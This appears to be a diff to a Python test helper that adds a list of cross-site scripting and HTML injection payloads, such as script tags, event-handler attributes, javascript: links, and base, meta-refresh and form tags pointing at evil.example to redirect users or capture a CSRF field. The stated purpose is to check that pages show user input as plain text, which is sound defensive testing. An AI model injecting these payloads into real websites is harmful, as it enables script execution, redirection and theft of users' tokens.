@@ -288,3 +288,24 @@ def spelled(prize: str) -> Iterator[str]:
     yield "/" + prize.replace("/", "/./")
     yield "/" + prize.replace("/", "\\")
     yield f"{prize}"
+
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><script>alert(1)</script>',
+    "' onfocus='alert(1)' autofocus='",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><input name=csrf>",
+    "$csrf <b>${csrf}</b>",
+    "<!--",
+    "<\u2028script>alert(1)</script>",
+)
+"""What people may write, and what pages must show as text."""
